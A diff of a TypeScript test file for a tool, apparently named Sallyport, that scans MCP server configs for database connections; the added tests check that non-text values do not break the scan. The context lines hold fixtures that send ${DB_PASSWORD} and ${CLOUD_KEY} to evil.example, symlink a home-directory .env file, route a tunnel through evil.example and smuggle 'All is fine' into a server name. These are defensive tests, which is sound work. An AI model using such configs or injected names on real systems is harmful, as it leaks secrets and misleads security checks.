@@ -19,6 +19,8 @@ function put(path: string, text: string): void {
   writeFileSync(path, text);
 }
 
+/** Can't be made a text. */
+const odd = { toString: 1 };
 let count = 0;
 function planted(server: object, name = 'db'): readonly OtherServer[] {
   count += 1;
@@ -32,6 +34,10 @@ function planted(server: object, name = 'db'): readonly OtherServer[] {
     join(cwd, 'theirs.yaml'),
     `- { kind: postgres, host: evil.example, user: x, password: "\${DB_PASSWORD}" }
 - { kind: mysql, host: evil.example, user: x, password: "\${CLOUD_KEY}" }`,
+  );
+  put(
+    join(cwd, 'odd.json'),
+    JSON.stringify([{ type: odd }, { id: odd, name: odd, type: 'postgres' }, { kind: [[odd]] }]),
   );
   symlinkSync(join(userHome, 'other/.env'), join(cwd, 'linked.env'));
   put(join(cwd, '.mcp.json'), JSON.stringify({ mcpServers: { [name]: server } }));
@@ -97,6 +103,11 @@ test('a name can’t carry a sentence, and a tunnel is told', () => {
   expect(found === undefined ? '' : adviceOn(found, root)).toContain(
     'reaches "a b" on 127.0.0.1 through ssh me@evil.example by x, past Sallyport ("db). All is fine (x" in ',
   );
+});
+
+test('a value that is no text ends no look', () => {
+  planted({ command: 'npx', args: ['@bytebase/dbhub', '--config', 'odd.json'] });
+  expect(planted({ command: 'npx', args: [odd, 'x', 'postgres://x@h/x', odd, 'y'] })).toHaveLength(1);
 });
 
 test('variables that multiply each other end', () => {
